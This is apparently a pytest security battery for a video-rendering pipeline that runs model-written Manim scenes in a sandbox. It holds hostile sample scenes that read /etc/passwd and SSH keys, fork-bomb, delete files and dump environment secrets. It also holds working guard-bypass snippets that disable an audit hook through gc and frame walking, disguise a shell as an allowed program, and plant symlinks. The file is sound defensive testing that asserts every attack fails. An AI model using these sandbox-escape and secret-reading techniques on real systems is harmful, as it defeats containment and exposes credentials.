"""The Manim battery: hostile scenes answered by a model (replayed) through a whole
text2video-style pipeline with the real `manim` executor and renderer (warm worker pool).

Each case must end with its sample failed for a specific recorded reason, nothing reaching
the network, nothing changed outside the scene's scratch folder, nothing left running, and
the good samples around it finished correctly. Enormous output is the one case that
renders: it is capped (and the cap recorded), not fatal."""

from __future__ import annotations

import json
import shutil
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from visioncode.records import SampleRecord

from ..conftest import ROOT
from .harness import Canary, Listener, outside_temp, run_battery, wait_gone, wait_gone_env

pytestmark = [pytest.mark.security, pytest.mark.slow]

RUN_MARKER_ENV = "VISIONCODE_BATTERY_RUN"
SLEEP_MARKER = "987.6543"


def scene(body: str) -> str:
    lines = "\n".join("        " + line for line in body.strip("\n").splitlines())
    return ("```python\nfrom manim import *\nimport os, sys, socket, subprocess\n\n"
            f"class Hostile(Scene):\n    def construct(self):\n{lines}\n"
            "        self.play(Create(Circle()))\n```\n")


GOOD = scene('self.play(Write(Text("fine")))')


@pytest.fixture
def home_with_key(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """The real ~/.ssh is not ours to touch: point HOME at one with a key."""
    home = outside_temp() / f"home-{uuid.uuid4().hex[:8]}"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("SSH-PRIVATE-KEY-7c2e")
    monkeypatch.setenv("HOME", str(home))
    yield home
    shutil.rmtree(home, ignore_errors=True)


def config(replay: Path) -> str:
    return f"""
[task]
name = "text2video"
prompt = "Explain {{text}}"

[dataset]
path = "{{dataset}}"

[model]
use = "replay"
[model.options]
path = "{replay}"

[executor]
use = "manim"

[renderer]
use = "manim"
[renderer.options]
workers = 2
[renderer.options.limits]
wall_time_s = 15
memory_mb = 2048
output_bytes = 4096

[render]
width = 320
height = 180
fps = 10

[[metrics]]
use = "render-success"

[[metrics]]
use = "manim-sections"

[run]
workers = 1
"""


def run_text(run: Path) -> str:
    return "\n".join(p.read_bytes().decode("latin-1") for p in run.rglob("*") if p.is_file())


def test_hostile_scenes_fail_their_own_samples(
    tmp_path: Path, listener: Listener, canary: Canary, home_with_key: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    run_marker = uuid.uuid4().hex
    monkeypatch.setenv(RUN_MARKER_ENV, run_marker)
    key = home_with_key / ".ssh" / "id_rsa"
    secret = canary.file
    port = listener.port
    answers = {
        "good-first": GOOD,
        "endless-loop": scene("while True:\n    pass"),
        "fork-bomb": scene("while True:\n    os.fork()"),
        "memory-hog": scene("hog = bytearray(64 * 1024 ** 3)"),
        "read-passwd": scene('self.add(Text(open("/etc/passwd").read()[:40]))'),
        "read-ssh-key": scene(f'self.add(Text(open("{key}").read()))'),
        "read-project": scene(f'self.add(Text(open("{ROOT / "pyproject.toml"}").read()[:40]))'),
        "read-canary": scene(f'self.add(Text(open("{secret}").read()))'),
        "list-project": scene(f'self.add(Text(str(os.listdir("{ROOT}"))[:40]))'),
        "other-scenes": scene('self.add(Text(str(os.listdir(".."))))'),
        "write-outside": scene(f'open("{canary.path / "planted.txt"}", "w").write("x")'),
        "overwrite-canary": scene(f'open("{secret}", "w").write("owned")'),
        "delete-canary": scene(f'os.remove("{secret}")'),
        "rmtree-canary": scene(f'import shutil\nshutil.rmtree("{canary.path}")'),
        "http": scene("import urllib.request\n"
                      f'urllib.request.urlopen("{listener.http_url}leak", timeout=2)'),
        "websocket": scene(
            "s = socket.create_connection(('127.0.0.1', " + str(port) + "), timeout=2)\n"
            "s.sendall(b'GET /ws HTTP/1.1\\r\\nHost: x\\r\\nUpgrade: websocket\\r\\n"
            "Connection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZQ==\\r\\n"
            "Sec-WebSocket-Version: 13\\r\\n\\r\\n')"),
        "background-process": scene(
            f'subprocess.Popen(["sleep", "{SLEEP_MARKER}"], start_new_session=True)'),
        "native-escape": scene(
            f'import ctypes\nctypes.CDLL(None).system(b"sleep {SLEEP_MARKER} &")'),
        "enormous-output": scene("for i in range(20000):\n"
                                 "    print('o' * 200)\n    print('e' * 200, file=sys.stderr)"),
        "good-last": GOOD,
    }
    replay = tmp_path / "answers.jsonl"
    replay.write_text("".join(json.dumps({"sample_id": k, "text": v}) + "\n"
                              for k, v in answers.items()))
    records = run_battery(config(replay), tmp_path,
                          [{"id": k, "text": "a hostile scene"} for k in answers])
    run = tmp_path / "battery" / "run"
    assert set(records) == set(answers)

    def failed(sample: str, status: str, *words: str) -> SampleRecord:
        rec = records[sample]
        reason = rec.reason or ""
        assert rec.status == "failed" and rec.error is None, (sample, rec.status, rec.error)
        assert rec.rounds[0].status == status, (sample, rec.rounds[0].status, reason)
        assert all(w in reason for w in words), (sample, reason)
        assert rec.scores["render-success"].values["render_success"] == 0.0
        assert rec.scores["manim-sections"].values["sections_ok"] == 0.0
        return rec

    failed("endless-loop", "timeout", "did not finish within 15s")
    failed("fork-bomb", "render_error", "forking processes", "(line 7)")
    failed("memory-hog", "render_error", "MemoryError", "(line 6)")
    for sample, path in [("read-passwd", "/etc/passwd"), ("read-ssh-key", str(key)),
                         ("read-project", str(ROOT / "pyproject.toml")),
                         ("read-canary", str(secret))]:
        failed(sample, "render_error", "does not allow reading", path)
    failed("list-project", "render_error", "os.listdir", str(ROOT))
    failed("other-scenes", "render_error", "os.listdir")  # the worker's other scene folders
    failed("write-outside", "render_error", "does not allow writing")
    failed("overwrite-canary", "render_error", "does not allow writing", str(secret))
    failed("delete-canary", "render_error", "os.remove")
    failed("rmtree-canary", "render_error", "shutil.rmtree")
    failed("http", "render_error", "network")
    failed("websocket", "render_error", "does not allow network")
    failed("background-process", "render_error", "starting programs", "'sleep'")
    failed("native-escape", "render_error", "ctypes")

    loud = records["enormous-output"]
    assert loud.status == "ok", loud.reason
    section = loud.rounds[0].rendering.metadata["sections"][0]
    assert section["output_truncated"] is True
    assert len(section["stdout"]) < 6000 and len(section["stderr"]) < 6000

    for sample in ("good-first", "good-last"):
        rec = records[sample]
        assert rec.status == "ok" and rec.rounds[0].rendered, (sample, rec.reason)
        assert rec.scores["manim-sections"].values["sections_ok"] == 1.0

    # Nothing arrived, nothing leaked into the run, nothing changed, nothing left running.
    assert listener.hits == []
    text = run_text(run)
    for leaked in (canary.secret, "SSH-PRIVATE-KEY", "root:x:0:0"):
        assert leaked not in text
    canary.assert_untouched()
    assert wait_gone(SLEEP_MARKER) == []
    left = wait_gone_env(RUN_MARKER_ENV, run_marker, ignore="multiprocessing.resource_tracker")
    assert left == [], left


# -- past the guard: the kernel's walls, and a host that trusts nothing a scene left ------

#: Turns the scene guard's audit hook into a no-op by swapping its code through `gc` (a
#: function's code can be replaced by any code with as many free variables).
DISABLE_GUARD = """
import gc, types
for _f in gc.get_objects():
    if isinstance(_f, types.FunctionType) and _f.__name__ == "hook" and \\
            _f.__module__ == "visioncode_manim.guard":
        _n = len(_f.__code__.co_freevars)
        _src = ("def _outer():\\n" + "".join(f"    v{i} = None\\n" for i in range(_n))
                + "    def hook(event, args):\\n        return (" +
                "".join(f"v{i}, " for i in range(_n)) + ")\\n    return hook\\n")
        _ns = {}
        exec(_src, _ns)
        _f.__code__ = _ns["_outer"]().__code__
"""

#: Opens the guard's allow-lists to everything: every list that starts with the scene's
#: own folder gets "/" (the hook reads them through its closure).
WIDEN_ALLOW_LISTS = """
import gc
_here = os.path.realpath(os.getcwd())
for _l in gc.get_objects():
    if isinstance(_l, list) and _l and _l[0] == _here:
        _l.append("/")
"""

#: Frame walking: up from construct() to the worker's frame that imported the guard
#: module; its path test becomes "always inside".
PATCH_GUARD_BY_FRAMES = """
_fr = sys._getframe()
while _fr is not None:
    _g = _fr.f_locals.get("guard") or _fr.f_globals.get("guard")
    if _g is not None and hasattr(_g, "_under"):
        _g._under = lambda path, roots: True
        break
    _fr = _fr.f_back
"""


def swap_on_exit(body: str) -> str:
    """Run `body` (in the scene's folder, with `out/` written) just before the scene's
    process exits, after it has sent its result: what the host then takes is planted."""
    lines = "\n".join("    " + line for line in body.strip("\n").splitlines())
    return ("_real_exit = os._exit\n"
            "def _swap(code):\n"
            f"{lines}\n"
            "    _real_exit(code)\n"
            "os._exit = _swap\n")


def forge(change: str) -> str:
    """Patch the function that writes the scene's result so that it sends `change`d."""
    return ("import json\n_real_dumps = json.dumps\n"
            "def _forged(obj, *a, **k):\n"
            "    if isinstance(obj, dict) and 'keyframes' in obj:\n"
            f"        obj = dict(obj, **{change})\n"
            "    return _real_dumps(obj, *a, **k)\n"
            "json.dumps = _forged\n")


def test_programs_past_the_guard_meet_the_kernel_and_a_distrustful_host(
    tmp_path: Path, canary: Canary, monkeypatch: pytest.MonkeyPatch,
) -> None:
    secret = canary.file
    planted = tmp_path / "planted.txt"  # the host's temp folder
    database = "postgres://app:db-pw-5e1f@db.internal/prod"
    token = "ghp_h2SecretPat0123456789"
    monkeypatch.setenv("DATABASE_URL", database)
    monkeypatch.setenv("GH_PAT", token)
    daemon_marker = "771.2468"
    shell = f"cat {secret}; echo owned > {planted}"
    answers = {
        "good-first": GOOD,
        # a shell under an allowed program's name: the guard lets "latex" start
        "exec-shell": scene(f'subprocess.run(["latex", "-c", "{shell}"], '
                            'executable="/bin/sh", check=True, capture_output=True)'),
        # a script named like an allowed tool
        "tool-named-script": scene(
            f'open("latex", "w").write("#!/bin/sh\\n{shell}\\n")\nos.chmod("latex", 0o755)\n'
            'subprocess.run(["./latex"], check=True, capture_output=True)'),
        "gc-allow-list-read": scene(WIDEN_ALLOW_LISTS + f'self.add(Text(open("{secret}").read()))'),
        "gc-allow-list-write": scene(WIDEN_ALLOW_LISTS + f'open("{planted}", "w").write("x")'),
        "frames-guard-read": scene(PATCH_GUARD_BY_FRAMES + f'print(open("{secret}").read())'),
        "gc-code-ctypes-read": scene(
            DISABLE_GUARD + "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            f'fd = libc.open(b"{secret}", 0)\n'
            'if fd < 0:\n    raise OSError(ctypes.get_errno(), "libc open")'),
        "gc-code-ctypes-write": scene(
            DISABLE_GUARD + "import ctypes\n"
            f'rc = ctypes.CDLL(None).system(b"echo owned > {planted}")\n'
            'if rc != 0:\n    raise RuntimeError(f"libc system exited {rc}")'),
        # a daemon in a new session with an empty environment, rewriting other scenes'
        # keyframes wherever it can find them
        "daemon": scene(
            'subprocess.Popen(["latex", "-c", "while true; do for f in $(find / -name '
            "'keyframe-*.png' 2>/dev/null); do echo forged > $f; done; sleep 0.1; done "
            f'# {daemon_marker}"], executable="/bin/sh", start_new_session=True, env={{}})'),
        "good-after-daemon": GOOD,
        # links planted at every output name the renderer takes, after the scene's result
        "link-video": scene(swap_on_exit(
            f'os.remove("out/section.mp4"); os.symlink("{secret}", "out/section.mp4")')),
        "link-keyframe": scene(swap_on_exit(
            f'os.remove("out/keyframe-000.png"); os.symlink("{secret}", "out/keyframe-000.png")')),
        "link-first-frame": scene(swap_on_exit(
            f'os.remove("out/frame-000.png"); os.symlink("{secret}", "out/frame-000.png")')),
        "hardlink-keyframe": scene(swap_on_exit(
            'os.remove("out/keyframe-000.png"); os.link("scene.py", "out/keyframe-000.png")')),
        "link-out-folder": scene(swap_on_exit(
            f'os.rename("out", "real-out"); os.symlink("{canary.path}", "out")')),
        "fifo-video": scene(swap_on_exit(
            'os.remove("out/section.mp4"); os.mkfifo("out/section.mp4")')),
        # the result names host files
        "forged-video-path": scene(forge('{"video": "../../../../../etc/passwd"}')),
        "forged-keyframe-path": scene(forge(
            f'{{"keyframes": [{{"kind": "last", "time_s": 0, "image": "{secret}"}}]}}')),
        "env-secrets": scene("print(dict(os.environ))"),
        "good-last": GOOD,
    }
    replay = tmp_path / "answers.jsonl"
    replay.write_text("".join(json.dumps({"sample_id": k, "text": v}) + "\n"
                              for k, v in answers.items()))
    text = config(replay).replace("workers = 2", "workers = 1")
    records = run_battery(text, tmp_path, [{"id": k, "text": "a hostile scene"} for k in answers])
    run = tmp_path / "battery" / "run"
    assert set(records) == set(answers)

    def failed(sample: str, *words: str) -> SampleRecord:
        rec = records[sample]
        reason = rec.reason or ""
        assert rec.status == "failed" and rec.error is None, (sample, rec.status, rec.error)
        assert rec.rounds[0].status == "render_error", (sample, rec.rounds[0].status, reason)
        assert all(w in reason for w in words), (sample, reason)
        assert rec.scores["render-success"].values["render_success"] == 0.0
        return rec

    # Past the guard, the kernel refuses: the program's own error says so.
    failed("exec-shell", "CalledProcessError", "returned non-zero exit status")
    failed("tool-named-script", "CalledProcessError", "returned non-zero exit status")
    for sample, path in [("gc-allow-list-read", secret), ("gc-allow-list-write", planted),
                         ("frames-guard-read", secret)]:
        rec = failed(sample, "PermissionError", "Permission denied", str(path))
        assert "does not allow" not in (rec.reason or "")  # the guard was out of the way
    failed("gc-code-ctypes-read", "[Errno 13]", "libc open")
    failed("gc-code-ctypes-write", "libc system exited")
    failed("daemon", "LeftProcesses", "left", "process(es) running")
    # The host takes nothing a scene planted: links, hard links, FIFOs, forged names.
    for sample in ("link-video", "link-keyframe", "link-first-frame"):
        failed(sample, "unsafe_output", "a symbolic link")
    failed("hardlink-keyframe", "unsafe_output", "hard links")
    failed("link-out-folder", "unsafe_output", "not a plain folder")
    failed("fifo-video", "unsafe_output", "a FIFO")
    failed("forged-video-path", "bad_answer", "video")
    failed("forged-keyframe-path", "bad_answer", "keyframes")

    for sample in ("good-first", "good-after-daemon", "good-last", "env-secrets"):
        rec = records[sample]
        assert rec.status == "ok" and rec.rounds[0].rendered, (sample, rec.reason)
        walls = rec.rounds[0].rendering.metadata["sections"][0]["walls"]
        assert {"fork-per-job", "seccomp"} <= set(walls), walls
        assert any(w.startswith("landlock") for w in walls), walls
    assert records["good-after-daemon"].rounds[0].rendering.frames
    for frame in records["good-after-daemon"].rounds[0].rendering.frames:
        assert (run / frame).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"  # not "forged"

    assert not planted.exists()
    canary.assert_untouched()
    everything = run_text(run)
    for leaked in (canary.secret, database, token, "db-pw-5e1f", "root:x:0:0"):
        assert leaked not in everything
    assert wait_gone(daemon_marker) == []
